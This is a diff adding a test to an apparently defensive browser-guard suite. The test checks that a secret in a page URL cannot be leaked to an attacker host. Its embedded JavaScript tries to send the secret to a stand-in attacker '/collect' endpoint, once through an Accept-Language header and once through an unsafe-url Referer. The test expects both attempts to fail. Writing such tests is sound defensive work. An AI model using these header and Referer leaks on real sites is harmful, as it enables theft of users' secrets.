@@ -181,3 +181,19 @@ async def test_speculation_rules_cannot_prefetch_a_secret_elsewhere(guarded, hos
             break
         await asyncio.sleep(0.1)
     assert hostile.attacker.hits == []
+
+
+HEADER_JS = """async ([a, v]) => { const out = [];
+  for (const init of [{headers: {'Accept-Language': v}}, {referrerPolicy: 'unsafe-url'}]) {
+    try { await fetch(a + '/collect?via=header', {mode: 'no-cors', ...init}); out.push('fetched'); }
+    catch (e) { out.push('failed'); } }
+  return out; }"""
+
+
+async def test_a_secret_in_a_request_header_is_refused(guarded, hostile):
+    """A header a page may set without a preflight, and the Referer of a page whose URL holds the secret."""
+    await guarded.goto(hostile.url + "/?pw=" + SECRET)  # e.g. where a GET login form at home led
+    hostile.attacker.hits.clear()
+    said = await guarded.page.evaluate(HEADER_JS, [hostile.attacker.url, SECRET])
+    assert hostile.attacker.leaked() == [], hostile.attacker.hits
+    assert said == ["failed", "failed"]
